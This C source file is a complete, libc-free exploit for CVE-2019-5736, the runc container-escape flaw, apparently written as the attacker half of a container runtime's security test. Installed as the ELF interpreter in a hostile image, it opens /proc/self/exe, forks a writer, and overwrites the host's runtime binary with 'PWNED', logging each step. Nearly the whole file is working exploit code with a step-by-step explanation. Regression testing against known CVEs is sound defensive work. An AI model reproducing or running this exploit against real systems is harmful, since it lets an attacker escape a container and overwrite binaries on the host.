/* The attacker of CVE-2019-5736 (security_cve_test.cpp), with no libc.
 *
 * A hostile image installs this file as its ELF interpreter
 * (/lib64/ld-linux-x86-64.so.2) and a script /evil whose first line is
 * "#!/proc/self/exe". When the runtime execs /evil in the container, the
 * kernel resolves /proc/self/exe to the *runtime's* binary, maps it, and
 * hands control to its interpreter: this program, running with
 * /proc/self/exe pointing at the host's runtime binary.
 *
 *   (as the interpreter)  opens /proc/self/exe, tries to open it for
 *                         writing at once, then forks a child that execs
 *                         this file again as "writer FD" (an exec: the
 *                         child no longer maps the runtime) and exits.
 *   writer FD             for about five seconds tries to reopen FD for
 *                         writing through /proc/self/fd/FD; on success
 *                         writes "PWNED" over the first bytes.
 *
 * Every step appends one line to /tmp/cve-2019-5736.log in the container:
 *   exe=PATH, open-exe=FD|-ERRNO, write-now=-ERRNO|wrote,
 *   writer: wrote | writer: gave up errno=E
 * No libc: a static glibc program cannot run as another program's
 * interpreter (its start-up code reads the main program's headers). */
#define SYS_write 1
#define SYS_open 2
#define SYS_close 3
#define SYS_nanosleep 35
#define SYS_fork 57
#define SYS_execve 59
#define SYS_wait4 61
#define SYS_readlink 89
#define SYS_pwrite64 18
#define SYS_exit_group 231

#define O_RDONLY 0
#define O_WRONLY 1
#define O_CREAT 0100
#define O_APPEND 02000

static long sys6(long n, long a, long b, long c, long d) {
  long ret;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
  return ret;
}
#define sys(n, a, b, c) sys6((n), (long)(a), (long)(b), (long)(c), 0)

static int eq(const char* a, const char* b) {
  while (*a && *a == *b) ++a, ++b;
  return *a == *b;
}
static char* fmt_long(char* out, long v) {
  char tmp[24];
  int n = 0;
  int neg = v < 0;
  unsigned long u = neg ? (unsigned long)(-v) : (unsigned long)v;
  do tmp[n++] = (char)('0' + u % 10), u /= 10;
  while (u);
  if (neg) *out++ = '-';
  while (n) *out++ = tmp[--n];
  *out = 0;
  return out;
}
static long parse(const char* s) {
  long v = 0;
  while (*s >= '0' && *s <= '9') v = v * 10 + (*s++ - '0');
  return v;
}
static char* cat(char* out, const char* s) {
  while (*s) *out++ = *s++;
  *out = 0;
  return out;
}

static void log_line(const char* a, const char* b) {
  long fd = sys(SYS_open, "/tmp/cve-2019-5736.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (fd < 0) return;
  char line[4200];
  char* p = cat(line, a);
  p = cat(p, b);
  p = cat(p, "\n");
  sys(SYS_write, fd, line, p - line);
  sys(SYS_close, fd, 0, 0);
}
static void log_num(const char* what, long v) {
  char num[24];
  fmt_long(num, v);
  log_line(what, num);
}

// Opens FD for writing through /proc/self/fd and writes over its first bytes.
static long try_overwrite(long fd) {
  char path[64];
  fmt_long(cat(path, "/proc/self/fd/"), fd);
  long w = sys(SYS_open, path, O_WRONLY, 0);
  if (w < 0) return w;
  sys6(SYS_pwrite64, w, (long)"PWNED", 5, 0);
  sys(SYS_close, w, 0, 0);
  return 0;
}

static void as_interpreter(char* self) {
  char exe[4096];
  long n = sys(SYS_readlink, "/proc/self/exe", exe, sizeof exe - 1);
  exe[n > 0 ? n : 0] = 0;
  log_line("exe=", exe);
  long fd = sys(SYS_open, "/proc/self/exe", O_RDONLY, 0);
  log_num("open-exe=", fd);
  if (fd < 0) return;
  long now = try_overwrite(fd);
  if (now == 0) log_line("write-now=", "wrote");
  else log_num("write-now=", now);
  if (sys(SYS_fork, 0, 0, 0) == 0) {
    char num[24];
    fmt_long(num, fd);
    char* argv[] = {"writer", num, 0};
    char* envp[] = {0};
    sys(SYS_execve, self, argv, envp);
    log_line("writer: ", "exec failed");
  }
}

static void as_writer(long fd) {
  long err = 0;
  for (int i = 0; i < 100; ++i) {  // about five seconds
    err = try_overwrite(fd);
    if (err == 0) {
      log_line("writer: ", "wrote");
      return;
    }
    long ts[2] = {0, 50 * 1000 * 1000};
    sys(SYS_nanosleep, ts, 0, 0);
  }
  log_num("writer: gave up errno=", -err);
}

// The kernel's initial stack: argc, argv..., 0, envp..., 0, auxv.
__attribute__((used)) static void cmain(long* sp) {
  long argc = sp[0];
  char** argv = (char**)(sp + 1);
  if (argc == 2 && eq(argv[0], "writer")) as_writer(parse(argv[1]));
  else as_interpreter("/lib64/ld-linux-x86-64.so.2");
  sys(SYS_exit_group, 0, 0, 0);
  for (;;) {
  }
}

__asm__(".text\n.global _start\n_start:\n  xor %rbp, %rbp\n  mov %rsp, %rdi\n  and $-16, %rsp\n  call cmain\n  hlt\n");
